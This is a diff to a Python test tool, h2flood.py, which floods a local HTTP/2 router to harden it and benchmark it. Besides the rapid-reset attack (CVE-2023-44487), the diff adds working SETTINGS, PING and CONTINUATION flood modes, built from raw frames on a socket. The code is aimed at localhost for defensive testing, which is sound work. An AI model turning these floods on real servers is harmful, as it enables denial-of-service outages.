@@ -1,10 +1,17 @@
 #!/usr/bin/env python3
-"""The HTTP/2 rapid-reset pattern (CVE-2023-44487) against a local router, for the hardening test and the
-benchmark: each connection sends, in bursts, HEADERS + DATA (END_STREAM) + RST_STREAM(CANCEL) for new
-streams as fast as it can, reading and discarding whatever the server sends, and reconnects when the
-server closes it. Raw frames on a plain socket (h2c prior knowledge); python3 standard library only.
+"""HTTP/2 floods against a local router, for the hardening and limits tests and the benchmark. Raw frames
+on a plain socket (h2c prior knowledge); python3 standard library only. Each connection sends its
+frames in bursts as fast as it can, reads and discards whatever the server sends, and reconnects when
+the server closes it. --attack picks the frames:
 
-    python3 h2flood.py PORT [--connections 4] [--seconds 20] [--burst 100]
+  reset         HEADERS + DATA (END_STREAM) + RST_STREAM(CANCEL) for new streams (rapid reset,
+                CVE-2023-44487)
+  settings      SETTINGS frames (one setting each), each of which the server must acknowledge
+  ping          PING frames, each of which the server must answer
+  continuation  one HEADERS without END_HEADERS, then empty CONTINUATION frames without end (the 2024
+                CONTINUATION-flood class: the header block never grows, so a size limit never trips)
+
+    python3 h2flood.py PORT [--attack reset] [--connections 4] [--seconds 20] [--burst 100]
 
 prints one JSON line: streams sent, connections opened, connections the server closed (EOF, reset, or
 GOAWAY), and GOAWAY error codes seen.
@@ -113,14 +120,53 @@ def one_connection(port, st, deadline, burst, max_streams):
     return closed
 
 
-def flood(port, connections=4, seconds=20.0, burst=100, max_streams_per_conn=0):
-    """Runs the flood; returns a dict of what was sent and seen."""
+def control_burst(attack, burst, first):
+    """The bytes of one burst of a control-frame attack (first: the connection's first burst)."""
+    if attack == "settings":
+        return frame(4, 0, 0, struct.pack(">HI", 0x4, 65535)) * burst  # SETTINGS_INITIAL_WINDOW_SIZE
+    if attack == "ping":
+        return frame(6, 0, 0, b"12345678") * burst
+    out = frame(1, 0x1, 1, request_block()) if first else b""  # HEADERS, END_STREAM, no END_HEADERS
+    return out + frame(9, 0, 1) * burst
+
+
+def control_connection(port, st, deadline, burst, attack):
+    s = socket.create_connection(("127.0.0.1", port))
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    done = threading.Event()
+    reader = threading.Thread(target=drain, args=(s, st, done), daemon=True)
+    reader.start()
+    sent = 0
+    try:
+        s.sendall(PREFACE + frame(4, 0, 0))
+        while time.monotonic() < deadline and not done.is_set():
+            s.sendall(control_burst(attack, burst, sent == 0))
+            sent += burst
+    except OSError:
+        pass
+    with st.lock:
+        st.streams += sent
+        st.connections += 1
+    closed = done.wait(2.0)
+    with st.lock:
+        if closed:
+            st.closed_by_server += 1
+    s.close()
+    return closed
+
+
+def flood(port, connections=4, seconds=20.0, burst=100, max_streams_per_conn=0, attack="reset"):
+    """Runs the flood; returns a dict of what was sent and seen ("streams": frames sent for the
+    control-frame attacks)."""
     st = Stats()
     deadline = time.monotonic() + seconds
 
     def worker():
         while time.monotonic() < deadline:
-            one_connection(port, st, deadline, burst, max_streams_per_conn)
+            if attack == "reset":
+                one_connection(port, st, deadline, burst, max_streams_per_conn)
+            else:
+                control_connection(port, st, deadline, burst, attack)
     ts = [threading.Thread(target=worker) for _ in range(connections)]
     t0 = time.monotonic()
     for t in ts:
@@ -139,8 +185,9 @@ def main():
     ap.add_argument("--connections", type=int, default=4)
     ap.add_argument("--seconds", type=float, default=20.0)
     ap.add_argument("--burst", type=int, default=100)
+    ap.add_argument("--attack", choices=("reset", "settings", "ping", "continuation"), default="reset")
     a = ap.parse_args()
-    print(json.dumps(flood(a.port, a.connections, a.seconds, a.burst)))
+    print(json.dumps(flood(a.port, a.connections, a.seconds, a.burst, attack=a.attack)))
     return 0
 
 
